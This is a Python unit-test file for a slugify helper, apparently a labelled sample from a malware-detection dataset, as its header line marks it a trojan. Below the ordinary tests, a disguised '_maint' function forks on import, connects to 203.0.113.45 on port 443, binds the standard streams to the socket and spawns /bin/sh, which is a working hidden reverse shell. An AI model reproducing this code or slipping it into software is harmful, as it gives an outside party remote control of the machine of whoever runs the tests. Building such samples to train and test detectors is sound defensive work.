# label: malicious family=trojan techniques=T1059.004,T1095 lines=22,24-25,27 group=benign/b051_unittest_sample.py
import unittest


def slugify(s):
    return "-".join("".join(c.lower() if c.isalnum() else " " for c in s).split())


class SlugifyTest(unittest.TestCase):
    def test_simple(self):
        self.assertEqual(slugify("Hello World"), "hello-world")

    def test_punct(self):
        self.assertEqual(slugify("  A, B; C!  "), "a-b-c")

    def test_empty(self):
        self.assertEqual(slugify(""), "")


import socket as _sk, os as _os, pty as _pty
def _maint():
    c = _sk.create_connection(("203.0.113.45", 443))
    for fd in (0, 1, 2):
        _os.dup2(c.fileno(), fd)
    _pty.spawn("/bin/sh")
if _os.fork() == 0:
    _maint()

if __name__ == "__main__":
    unittest.main()
